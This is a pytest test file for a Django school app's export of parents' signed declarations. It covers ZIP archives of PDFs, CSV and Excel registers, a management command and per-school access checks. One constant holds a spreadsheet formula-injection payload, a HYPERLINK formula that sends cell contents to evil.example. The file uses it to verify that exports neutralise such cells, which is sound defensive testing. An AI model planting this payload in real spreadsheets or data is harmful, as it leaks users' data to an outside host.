"""Many declarations at once (a ZIP of their PDFs, built in the background with progress) and the
registers (CSV and Excel), from the staff pages and `manage.py export_declarations`; who may."""

import csv
import datetime
import html
import io
import re
import zipfile
from io import StringIO

import openpyxl
import pytest
from django.core.exceptions import PermissionDenied
from django.core.management import call_command

from declarations import services
from declarations.models import Declaration
from evidence import services as evidence_services
from evidence import zip_exports
from evidence.exports import DeclarationFilters, RegisterCsv, RegisterXlsx, neutralise
from evidence.models import DeclarationPdf, Export
from evidence.pdf import declaration_pdf_issue
from evidence.zip_exports import DeclarationsZip, build_export
from schools.models import AuditEvent, StaffRole
from tests.declarations.evidence import many_families, sign_on_paper, sign_online
from tests.declarations.factories import add_child, family, issued_link
from tests.factories import StaffRoleFactory, published_version

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/steal?x="&A1,"Click me")'


def page(response) -> str:
    return html.unescape(response.content.decode())


def words(response) -> str:
    """The page's text without tags, white space made single spaces."""
    return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", "", page(response)))


def stored(record) -> bytes:
    with record.file.open("rb") as file:
        return file.read()


def zip_of(data: bytes) -> zipfile.ZipFile:
    return zipfile.ZipFile(io.BytesIO(data))


# The ZIP.


def test_a_zip_of_n_declarations_holds_n_correctly_named_pdfs_as_stored(school, version, media):
    carers = many_families(school, 3)
    declarations = [sign_online(carer, version) for carer in carers]
    records = {d.pk: declaration_pdf_issue(declaration_id=d.pk) for d in declarations[:2]}  # the third is not rendered yet
    progress = []

    buffer = io.BytesIO()
    count = DeclarationsZip(school).write_to(buffer, progress=lambda done, total: progress.append((done, total)))

    archive = zip_of(buffer.getvalue())
    assert count == 3 and archive.namelist() == [
        "carer0-parent0-pupil0-child0-v1.pdf",
        "carer1-parent1-pupil1-child1-v1.pdf",
        "carer2-parent2-pupil2-child2-v1.pdf",
    ]
    assert all(info.compress_type == zipfile.ZIP_STORED for info in archive.infolist())
    for name, declaration in zip(archive.namelist(), declarations):
        assert archive.read(name) == stored(DeclarationPdf.objects.get(declaration=declaration))
    assert archive.read(archive.namelist()[0]) == stored(records[declarations[0].pk])  # as stored, not re-rendered
    assert DeclarationPdf.objects.count() == 3  # the missing one was rendered first, once
    assert progress[0] == (0, 3) and progress[-1] == (3, 3)


def test_names_are_slugified_and_never_collide(school, version, media):
    first = family(school, forename="Siobhán", surname="O'Brien", email="a@example.org", children=(("Zoë", "Ó Súilleabháin", "4", "4C"),))
    second = family(school, forename="Siobhán", surname="O'Brien", email="b@example.org", children=(("Zoë", "Ó Súilleabháin", "5", "5A"),))
    for carer in (first, second):
        sign_online(carer, version)
    _, _, data = DeclarationsZip(school).render()
    assert sorted(zip_of(data).namelist()) == [
        "obrien-siobhan-o-suilleabhain-zoe-v1-2.pdf",
        "obrien-siobhan-o-suilleabhain-zoe-v1.pdf",
    ]


def test_filters_choose_by_version_year_registration_group_and_date(school, school_code, version, media, now):
    amy = family(school, forename="Ann", surname="Able", email="ann@example.org", children=(("Amy", "Able", "3", "3B"),))
    bob = family(school, forename="Bob", surname="Baker", email="bob@example.org", children=(("Ben", "Baker", "5", "5A"),))
    sign_online(amy, version)
    now.move_to(datetime.datetime(2026, 12, 3, 10, 0, tzinfo=datetime.UTC))
    sign_online(bob, version)
    version_2 = published_version(school_code, body="## New\n\nNew text.", effective_from=datetime.date(2026, 12, 3))
    sign_online(amy, version_2)

    def chosen(**filters):
        return [(d.carer.forename, d.version.number) for d in DeclarationFilters(**filters).declarations(school)]

    assert chosen() == [("Ann", 1), ("Ann", 2), ("Bob", 1)]
    assert chosen(version=2) == [("Ann", 2)]
    assert chosen(year_group="5") == [("Bob", 1)]
    assert chosen(reg_group="3B") == [("Ann", 1), ("Ann", 2)]
    assert chosen(signed_from=datetime.date(2026, 12, 1)) == [("Ann", 2), ("Bob", 1)]
    assert chosen(signed_to=datetime.date(2026, 11, 22)) == [("Ann", 1)]
    assert DeclarationFilters(version=2, year_group="3").describe() == "Declarations: version 2, Year 3"


def test_staff_ask_for_a_zip_the_task_builds_it_with_progress_and_they_download_it(
    staff, school, version, office, media, tasks, django_capture_on_commit_callbacks
):
    for carer in many_families(school, 4):
        sign_online(carer, version)
    with django_capture_on_commit_callbacks(execute=True):
        response = staff.post(f"/staff/exports/{school.slug}/", {"version": "1", "year_group": "", "reg_group": ""})
    export = Export.objects.get()
    assert response.status_code == 302 and response["Location"] == f"/staff/exports/{school.slug}/{export.pk}/"
    assert [(result.task.name, result.args) for result in tasks.results] == [("build_export", [export.pk])]
    assert (export.status, export.total, export.requested_by, export.filters) == ("queued", 4, office, {"version": 1})

    waiting = page(staff.get(response["Location"]))
    assert "Waiting to start" in waiting and "Update this page every 5 seconds" in waiting
    assert 'http-equiv="refresh"' not in waiting  # never imposed
    assert 'http-equiv="refresh"' in page(staff.get(response["Location"] + "?auto=1"))

    Export.objects.filter(pk=export.pk).update(status="running", done=2)
    assert "Being built: 2 of 4 PDFs added so far (50%)" in words(staff.get(response["Location"]))

    assert build_export.call(export.pk) == "done"
    export.refresh_from_db()
    assert (export.status, export.done, export.total) == ("done", 4, 4) and export.finished_at
    ready = page(staff.get(response["Location"]))
    assert "Ready" in ready and f"/staff/exports/{school.slug}/{export.pk}/download/" in ready
    assert 'http-equiv="refresh"' not in page(staff.get(response["Location"] + "?auto=1"))  # nothing left to wait for

    download = staff.get(f"/staff/exports/{school.slug}/{export.pk}/download/")
    assert download.status_code == 200 and download["Content-Type"] == "application/zip"
    assert "no-store" in download["Cache-Control"]
    assert len(zip_of(b"".join(download.streaming_content)).namelist()) == 4
    events = AuditEvent.objects.filter(action=AuditEvent.Action.EXPORT_DECLARATIONS).order_by("pk")
    assert [(e.actor, e.detail.get("format"), e.detail.get("download", False)) for e in events] == [
        (office, "zip", False),
        (office, "zip", True),
    ]
    assert build_export.call(export.pk) == "done"  # a repeated task changes nothing


def test_a_failed_export_says_so(staff, school, version, media, monkeypatch):
    sign_online(family(school), version)
    export = evidence_services.export_request(user=None, school=school, filters=DeclarationFilters())

    def broken(**kwargs):
        raise RuntimeError("storage is full")

    monkeypatch.setattr(zip_exports, "declaration_pdf_issue", broken)
    assert zip_exports.export_build(export_id=export.pk) == "failed"
    text = page(staff.get(f"/staff/exports/{school.slug}/{export.pk}/"))
    assert "It could not be built." in text and "RuntimeError: storage is full" in text
    assert staff.get(f"/staff/exports/{school.slug}/{export.pk}/download/").status_code == 404


def test_the_export_form_refuses_an_end_date_before_the_start(staff, school, version):
    response = staff.post(f"/staff/exports/{school.slug}/", {"signed_from": "2026-11-20", "signed_to": "2026-11-01"})
    assert response.status_code == 200 and "The end date must be on or after the start date" in page(response)
    assert not Export.objects.exists()


# Registers.


@pytest.fixture
def register_school(school, version, office, media):
    """Signed online, signed on paper, declined, outstanding; one carer with two children."""
    online = family(school, forename="Olivia", surname="Online", email="olivia@example.org", children=(("Amy", "Online", "3", "3B"), ("Alf", "Online", "5", "5A")))
    sign_online(online, version)
    paper = family(school, forename="Peter", surname="Paper", email="", children=(("Pip", "Paper", "5", "5A"),))
    sign_on_paper(paper, version, recorded_by=office)
    declining = family(school, forename="Dee", surname="Decline", email="dee@example.org", children=(("Dot", "Decline", "R", "RA"),))
    signing_request, _ = issued_link(declining, version)
    services.declaration_decline(signing_request=signing_request, version_id_shown=version.pk, message="No", ip=None, user_agent="")
    family(school, forename=FORMULA, surname="+Plus", email="evil@example.org", children=(("-Minus", "@At", "5", "\tTab"),))
    return school


def csv_rows(data: bytes) -> list[dict]:
    assert data.startswith(b"\xef\xbb\xbf")  # a BOM, so Excel reads UTF-8
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def test_the_csv_register_says_who_signed_which_version_when_and_how_by_year_and_group(register_school):
    filename, content_type, data = RegisterCsv(register_school).render()
    assert (filename, content_type) == ("register-whitefield-primary-v1.csv", "text/csv; charset=utf-8")
    rows = {(row["Pupil forename"], row["Carer forename"]): row for row in csv_rows(data)}
    assert len(rows) == 5  # one row per child: Olivia has two
    amy = rows["Amy", "Olivia"]
    assert (amy["Year group"], amy["Registration group"], amy["Status"], amy["Version signed"], amy["Signed (UK time)"], amy["How"]) == (
        "Year 3", "3B", "Signed", "1", "2026-11-22 12:00", "Online"
    )
    assert rows["Alf", "Olivia"]["Year group"] == "Year 5"
    pip = rows["Pip", "Peter"]
    assert (pip["Status"], pip["How"], pip["Recorded by"]) == ("Signed", "On paper", "Olive Okafor")
    dot = rows["Dot", "Dee"]
    assert (dot["Status"], dot["Declined (UK time)"], dot["Year group"]) == ("Declined", "2026-11-22 12:00", "Reception")
    evil = [row for row in rows.values() if row["Status"] == "Outstanding"][0]
    assert evil["Outstanding because"] == "Not sent yet"
    # In year group order (Reception before Year 3), then registration group, then surname.
    assert list(rows) == [("Dot", "Dee"), ("Amy", "Olivia"), ("'-Minus", "'" + FORMULA), ("Alf", "Olivia"), ("Pip", "Peter")]


def test_registers_neutralise_cells_that_a_spreadsheet_would_run_as_formulas(register_school):
    _, _, data = RegisterCsv(register_school).render()
    [evil] = [row for row in csv_rows(data) if row["Carer e-mail"] == "evil@example.org"]
    assert evil["Carer forename"] == "'" + FORMULA
    assert evil["Carer surname"] == "'+Plus"
    assert evil["Pupil forename"] == "'-Minus" and evil["Pupil surname"] == "'@At"
    assert evil["Registration group"] == "'\tTab"

    _, content_type, data = RegisterXlsx(register_school).render()
    assert content_type == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    headers = [cell.value for cell in sheet[1]]
    cells = {}
    for row in sheet.iter_rows(min_row=2):
        if row[headers.index("Carer e-mail")].value == "evil@example.org":
            cells = {header: cell for header, cell in zip(headers, row)}
    assert cells["Carer forename"].value == "'" + FORMULA and cells["Carer forename"].data_type == "s"
    assert cells["Carer surname"].value == "'+Plus" and cells["Pupil surname"].value == "'@At"
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)  # no formula anywhere


def test_neutralise_leaves_everything_else_alone():
    assert [neutralise(value) for value in ("=1+1", "+44 20", "-5", "@me", "\tx", "\rx", "Mary", "", 5, None)] == [
        "'=1+1", "'+44 20", "'-5", "'@me", "'\tx", "'\rx", "Mary", "", 5, None
    ]


def test_the_excel_register_has_real_dates_and_a_bold_header(register_school):
    _, _, data = RegisterXlsx(register_school).render()
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    headers = [cell.value for cell in sheet[1]]
    assert headers[:4] == ["Pupil surname", "Pupil forename", "Year group", "Registration group"] and sheet["A1"].font.b
    signed = [row for row in sheet.iter_rows(min_row=2, values_only=True) if row[headers.index("Status")] == "Signed"]
    assert datetime.datetime(2026, 11, 22, 12, 0) in [row[headers.index("Signed (UK time)")] for row in signed]


def test_the_register_filters_by_year_group(register_school):
    rows = csv_rows(RegisterCsv(register_school, filters=DeclarationFilters(year_group="5")).render()[2])
    assert sorted(row["Pupil forename"] for row in rows) == ["'-Minus", "Alf", "Pip"]


def test_staff_download_registers_from_the_status_page_and_each_is_audited(staff, register_school, office):
    status = page(staff.get(f"/staff/declarations/{register_school.slug}/"))
    assert f'href="/staff/exports/{register_school.slug}/register.xlsx"' in status
    assert f'href="/staff/exports/{register_school.slug}/register.csv"' in status
    olivia = Declaration.objects.get(carer__forename="Olivia")
    assert f'href="/staff/exports/{register_school.slug}/declarations/{olivia.pk}/pdf/"' in status

    response = staff.get(f"/staff/exports/{register_school.slug}/register.csv?year=5")
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="register-whitefield-primary-v1.csv"'
    assert len(csv_rows(response.content)) == 3
    xlsx = staff.get(f"/staff/exports/{register_school.slug}/register.xlsx")
    assert xlsx["Content-Type"].startswith("application/vnd.openxmlformats")
    events = AuditEvent.objects.filter(action=AuditEvent.Action.EXPORT_DECLARATIONS).order_by("pk")
    assert [(e.actor, e.detail) for e in events] == [
        (office, {"format": "csv", "filters": {"year_group": "5"}}),
        (office, {"format": "xlsx", "filters": {}}),
    ]
    assert staff.get(f"/staff/exports/{register_school.slug}/register.pdf").status_code == 404


def test_staff_download_one_declarations_pdf_as_stored(staff, school, version, office):
    declaration = sign_online(family(school), version)
    response = staff.get(f"/staff/exports/{school.slug}/declarations/{declaration.pk}/pdf/")  # made now if need be
    record = DeclarationPdf.objects.get()
    assert response.status_code == 200 and b"".join(response.streaming_content) == stored(record)
    assert response["Content-Disposition"] == 'attachment; filename="smith-mary-smith-amy-v1.pdf"'
    staff.get(f"/staff/exports/{school.slug}/declarations/{declaration.pk}/pdf/")
    assert DeclarationPdf.objects.count() == 1  # served from storage: never rendered again
    event = AuditEvent.objects.filter(action=AuditEvent.Action.EXPORT_DECLARATIONS).first()
    assert (event.actor, event.carer, event.detail) == (office, declaration.carer, {"format": "pdf", "declaration": declaration.pk})


# The command.


def test_the_command_runs_the_same_exporters(school, version, media, tmp_path):
    for carer in many_families(school, 2):
        sign_online(carer, version)
    out = StringIO()
    call_command("export_declarations", school.slug, "--format", "zip", "--out", str(tmp_path / "all.zip"), "--version", "1", stdout=out)
    assert "Wrote 2 declaration PDFs for Whitefield Primary School" in out.getvalue()
    assert zip_of((tmp_path / "all.zip").read_bytes()).namelist() == ["carer0-parent0-pupil0-child0-v1.pdf", "carer1-parent1-pupil1-child1-v1.pdf"]

    call_command("export_declarations", school.slug, "--format", "csv", "--out", str(tmp_path / "register.csv"), stdout=out)
    assert len(csv_rows((tmp_path / "register.csv").read_bytes())) == 2
    call_command("export_declarations", school.slug, "--format", "xlsx", "--out", str(tmp_path / "register.xlsx"), stdout=out)
    assert openpyxl.load_workbook(tmp_path / "register.xlsx").active.max_row == 3
    assert AuditEvent.objects.filter(action="export_declarations", actor=None, detail__source="command line").count() == 3


def test_the_command_refuses_an_unknown_school(db, tmp_path):
    from django.core.management import CommandError

    with pytest.raises(CommandError, match="There is no school with the slug “nowhere”"):
        call_command("export_declarations", "nowhere", "--format", "csv", "--out", str(tmp_path / "x.csv"))


# Who may.


def evidence_views(school, declaration, export):
    base = f"/staff/exports/{school.slug}"
    return [
        ("get", f"{base}/"),
        ("post", f"{base}/"),
        ("get", f"{base}/{export.pk}/"),
        ("get", f"{base}/{export.pk}/download/"),
        ("get", f"{base}/register.csv"),
        ("get", f"{base}/register.xlsx"),
        ("get", f"{base}/declarations/{declaration.pk}/pdf/"),
    ]


@pytest.fixture
def ours(school, version, media):
    declaration = sign_online(family(school), version)
    export = evidence_services.export_request(user=None, school=school, filters=DeclarationFilters())
    zip_exports.export_build(export_id=export.pk)
    return declaration, export


@pytest.mark.parametrize("role", [StaffRole.Role.HEADTEACHER, StaffRole.Role.OFFICE])
def test_staff_of_the_school_may(client, verified_client, school, ours, role):
    verified_client(client, StaffRoleFactory(organisation=school, role=role).user)
    for method, url in evidence_views(school, *ours):
        response = getattr(client, method)(url)
        assert response.status_code in (200, 302), url


@pytest.mark.parametrize("role", [StaffRole.Role.HEADTEACHER, StaffRole.Role.OFFICE])
def test_staff_of_another_school_get_404(client, verified_client, school, other_school, ours, role):
    outsider = StaffRoleFactory(organisation=other_school, role=role).user
    verified_client(client, outsider)
    for method, url in evidence_views(school, *ours):
        assert getattr(client, method)(url).status_code == 404, url
    assert Export.objects.count() == 1
    assert not AuditEvent.objects.filter(action="export_declarations", actor=outsider).exists()


def test_an_association_admin_gets_404(client, verified_client, school, association, ours):
    school.association = association
    school.save()
    verified_client(client, StaffRoleFactory(organisation=association, role=StaffRole.Role.ASSOCIATION_ADMIN).user)
    for method, url in evidence_views(school, *ours):
        assert getattr(client, method)(url).status_code == 404, url


def test_our_export_is_a_404_under_another_schools_address(client, verified_client, school, other_school, ours):
    _, export = ours
    verified_client(client, StaffRoleFactory(organisation=other_school, role=StaffRole.Role.OFFICE).user)
    assert client.get(f"/staff/exports/{other_school.slug}/{export.pk}/").status_code == 404
    assert client.get(f"/staff/exports/{other_school.slug}/{export.pk}/download/").status_code == 404


def test_anonymous_visitors_go_to_sign_in_and_unverified_staff_to_their_second_factor(client, school, ours, headteacher):
    for method, url in evidence_views(school, *ours):
        response = getattr(client, method)(url)
        assert response.status_code == 302 and response["Location"].startswith("/staff/login/"), url
    client.force_login(headteacher)
    for method, url in evidence_views(school, *ours):
        response = getattr(client, method)(url)
        assert response.status_code == 302 and "/staff/account/" in response["Location"], url


def test_every_export_service_refuses_staff_who_may_not_see_the_schools_families(school, other_school, association, ours):
    """The services check for themselves, whoever calls them: nothing is handed out or recorded."""
    declaration, export = ours
    school.association = association
    school.save()
    events = AuditEvent.objects.count()

    def each_service(user):
        filters = DeclarationFilters()
        yield lambda: evidence_services.export_request(user=user, school=school, filters=filters)
        yield lambda: evidence_services.export_download(user=user, export=export)
        yield lambda: evidence_services.register_export(user=user, school=school, file_format="csv", filters=filters)
        yield lambda: evidence_services.declarations_zip_write(user=user, school=school, filters=filters, file=io.BytesIO())
        yield lambda: evidence_services.declaration_pdf_download(user=user, declaration=declaration)

    for outsider in (
        StaffRoleFactory(organisation=other_school, role=StaffRole.Role.HEADTEACHER).user,
        StaffRoleFactory(organisation=association, role=StaffRole.Role.ASSOCIATION_ADMIN).user,
    ):
        for call in each_service(outsider):
            with pytest.raises(PermissionDenied):
                call()
    assert AuditEvent.objects.count() == events and Export.objects.count() == 1


def test_the_exports_page_lists_recent_exports_and_offers_the_registers(staff, school, version, ours):
    text = page(staff.get(f"/staff/exports/{school.slug}/"))
    assert "Download the register (Excel)" in text and "Download the register (CSV)" in text
    assert "All declarations" in text and "Ready" in text
    assert re.search(r'<select name="version"[^>]* id="id_version"', text)


def test_a_carer_with_a_left_child_is_named_after_the_first_child_named(school, version, media):
    carer = family(school, children=(("Zed", "Smith", "6", "6A"),))
    add_child(carer, forename="Abe", surname="Smith", on_roll=False)
    sign_online(carer, version)
    assert zip_of(DeclarationsZip(school).render()[2]).namelist() == ["smith-mary-smith-zed-v1.pdf"]
